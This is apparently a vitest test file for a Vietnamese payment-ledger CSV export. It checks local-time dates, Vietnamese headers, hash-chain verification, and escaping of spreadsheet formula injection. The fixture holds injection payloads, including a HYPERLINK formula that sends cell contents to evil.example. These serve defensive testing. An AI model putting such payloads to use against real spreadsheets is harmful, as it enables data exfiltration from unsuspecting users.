import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  entryFromCsvRecord,
  LEDGER_CSV_COLUMNS,
  LEDGER_CSV_HEADERS_VI,
  ledgerCsv,
} from '../../shared/audit/presentation/ledger-csv.ts';
import { verifyChain } from '../../shared/ledger/domain/hash-chain.ts';
import { dateCell } from '../../shared/platform/format/spreadsheet-cell.ts';
import { vnDayMonthYear } from '../../shared/platform/vn-calendar.ts';
import { cellValues, looksRunnable, openInSpreadsheet } from '../support/spreadsheet-reader.ts';
import { aChainOfEntries } from './support/domain-fixtures.ts';

const records = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];
const payees = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', '+1+1', '  -2', '＠SUM(1)', 'Hộ ông A'];
const chain = aChainOfEntries(
  payees.map((_, i) => (i + 1) * 1_000_000),
  undefined,
  (i) => ({ payee: { name: payees[i] ?? '', kind: 'household' }, purpose: i === 0 ? '@đợt 1' : '=1+1' }),
);

describe('the day of a posting in Vietnam, as people write it', () => {
  it('is dd/mm/yyyy in Vietnam time: 17:00 UTC is already the next day', () => {
    expect(vnDayMonthYear('2024-09-30T16:59:59.999Z')).toBe('30/09/2024');
    expect(vnDayMonthYear('2024-09-30T17:00:00.000Z')).toBe('01/10/2024');
    expect(vnDayMonthYear(new Date('2024-12-31T17:00:00Z'))).toBe('01/01/2025');
  });

  it('is written as is in a date column, and anything else there as marked text', () => {
    expect(dateCell('01/10/2024')).toBe('01/10/2024');
    expect(dateCell('=1+1')).toBe("'=1+1");
    expect(dateCell('32/01/2024')).toBe("'32/01/2024");
    expect(dateCell('1/10/2024')).toBe("'1/10/2024");
  });
});

describe('the ledger CSV for people', () => {
  it('ends each line with the posting day in Vietnam (dd/mm/yyyy), after every column a verifier reads', () => {
    const late = { ...chain.entries[0], postedAt: '2024-09-30T17:30:00.000Z' } as (typeof chain.entries)[0];
    const [first, second] = records(ledgerCsv([late, ...chain.entries.slice(1, 2)]));
    expect(LEDGER_CSV_COLUMNS.at(-1)?.name).toBe('postedDate');
    expect(first?.postedDate).toBe('01/10/2024');
    expect(second?.postedDate).toBe('02/04/2024'); // posted 2024-04-02T00:00Z, 07:00 in Vietnam
  });

  it('leaves the day empty rather than failing when postedAt is not an instant', () => {
    const tampered = { ...chain.entries[0], postedAt: 'yesterday' } as (typeof chain.entries)[0];
    expect(records(ledgerCsv([tampered]))[0]?.postedDate).toBe('');
  });

  it('has a distinct Vietnamese header for every column, with the terms of payment dossiers', () => {
    const vi = LEDGER_CSV_COLUMNS.map((c) => LEDGER_CSV_HEADERS_VI[c.name]);
    expect(vi.every((h) => typeof h === 'string' && h !== '')).toBe(true);
    expect(new Set(vi).size).toBe(LEDGER_CSV_COLUMNS.length);
    expect(Object.keys(LEDGER_CSV_HEADERS_VI)).toHaveLength(LEDGER_CSV_COLUMNS.length);
    expect(LEDGER_CSV_HEADERS_VI).toMatchObject({
      payeeName: 'Đơn vị thụ hưởng',
      purpose: 'Nội dung thanh toán',
      fiscalYear: 'Năm kế hoạch',
      postedDate: 'Ngày ghi sổ',
    });
  });

  it('with lang=vi changes the header line only: every other line is the same as in the default export', () => {
    const en = ledgerCsv(chain.entries);
    const vi = ledgerCsv(chain.entries, 'vi');
    expect(Object.keys(records(vi)[0] ?? {})).toEqual(
      LEDGER_CSV_COLUMNS.map((c) => LEDGER_CSV_HEADERS_VI[c.name]),
    );
    expect(Object.keys(records(en)[0] ?? {})).toEqual(LEDGER_CSV_COLUMNS.map((c) => c.name));
    expect(vi.split('\r\n')[0]).toContain(',"Mã ngành kinh tế (loại, khoản)",');
    expect(vi.split('\r\n').slice(1)).toEqual(en.split('\r\n').slice(1));
  });

  it('keeps formula payloads in the payee and purpose inert text with Vietnamese headers too', () => {
    const rows = openInSpreadsheet(ledgerCsv(chain.entries, 'vi'));
    expect(rows.flatMap((row) => Object.values(row).filter((cell) => cell.f !== undefined))).toEqual([]);
    expect(rows.map((r) => r['Đơn vị thụ hưởng']?.v)).toEqual([
      ...payees.slice(0, 4).map((p) => `'${p}`),
      'Hộ ông A',
    ]);
    expect(rows.map((r) => r['Nội dung thanh toán']?.v)).toEqual([
      "'@đợt 1",
      ...payees.slice(1).map(() => "'=1+1"),
    ]);
    const raw = records(ledgerCsv(chain.entries, 'vi'));
    for (const record of raw)
      for (const cell of Object.values(record)) expect(looksRunnable(cell)).toBe(false);
  });

  it("lets a verifier re-check a chain from a Vietnamese-headed copy, and ignores the day column's edits", () => {
    const copy = cellValues(openInSpreadsheet(ledgerCsv(chain.entries, 'vi')));
    const fromCopy = copy.map(entryFromCsvRecord);
    expect(fromCopy).toEqual(chain.entries);
    expect(verifyChain(fromCopy, chain.head)).toMatchObject({ valid: true, checked: payees.length });
    const edited = records(ledgerCsv(chain.entries)).map((r) => ({ ...r, postedDate: '31/12/1999' }));
    expect(verifyChain(edited.map(entryFromCsvRecord), chain.head)).toMatchObject({ valid: true });
  });
});
